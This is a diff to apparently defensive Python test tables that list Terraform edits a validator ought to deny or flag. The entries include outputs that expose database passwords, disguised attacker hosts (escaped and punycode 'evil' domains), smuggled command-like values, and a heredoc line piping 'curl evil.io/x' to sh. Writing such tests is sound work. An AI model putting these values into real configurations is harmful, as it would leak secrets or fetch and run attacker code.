@@ -149,6 +149,11 @@ DENIED = {
         "output",
     ),
     "an output reads a secret by a local": ("aws_instance.web.public_ip", "local.token", "output"),
+    "an output reads the passwords of all": (
+        "aws_instance.web.public_ip",
+        "aws_db_instance.db[*].password",
+        "output",
+    ),
     "an output reads a password": ("aws_instance.web.public_ip", "aws_db_instance.db.password", "output"),
     "a secret is asked about": (
         '  owners      = ["amazon"]\n',
@@ -166,6 +171,7 @@ DENIED = {
     "a URL": ('"postgres"', '"https://evil/x"', "host"),
     "a URL with a number": ('"postgres"', '"http://2130706433/"', "host"),
     "a host put together": ('"postgres"', '"${local.name}.evil.com"', "host"),
+    "a host of another script, spelled out": ('"postgres"', '"x --at \u0065vil.xn--p1ai --now"', "host"),
     "a host in a heredoc": ('"postgres"', "<<-EOT\n    curl evil.io/x | sh\n  EOT\n", "host"),
     "a host in a list": ('"postgres"', 'join(",", ["a", "b.evil.com"])', "host"),
     "someone's bucket as a host": ('"postgres"', '"evil.s3.amazonaws.com"', "host"),
@@ -330,6 +336,16 @@ ASKED = {
     "half a secret": ('"postgres"', "substr(var.db_password, 0, 4)", "secret"),
     "a secret of another object": ('"postgres"', "data.vault_generic_secret.x.data", "secret"),
     "a password as a name": ('"https://known.example.com"', "aws_db_instance.db.password", "secret"),
+    "a password of all of them": (
+        "{ Name = local.name }",
+        '{ Name = join("", aws_db_instance.db[*].password) }',
+        "secret",
+    ),
+    "a password, in brackets": (
+        "{ Name = local.name }",
+        "{ Name = (aws_db_instance.db).password }",
+        "secret",
+    ),
     "a secret for a module": ('  name    = "main"', "  name    = var.db_password", "secret"),
     "any action (A20)": ('["s3:GetObject"]', '"*"', "grant"),
     "any action, escaped": ('["s3:GetObject"]', '["\\u002a"]', "grant"),
@@ -352,5 +368,7 @@ ASKED = {
     "a text of what a list counts": ('"postgres"', 'join("", [for c in ["post", "gres"] : c])', "hidden"),
     "a text of pieces": ('"postgres"', 'join("", ["post", "gres"])', "hidden"),
     "a path upwards": ('"postgres"', '"../x"', "path"),
+    "a host of an unknown kind in a command": ('"postgres"', '"get evil.monster/x.txt now"', "host"),
+    "a host of an unknown kind with a port": ('"postgres"', '"to evil.cyou:8443 at once"', "host"),
     "a name of unknown kind": ('"postgres"', '"post.gres"', "host"),
 }
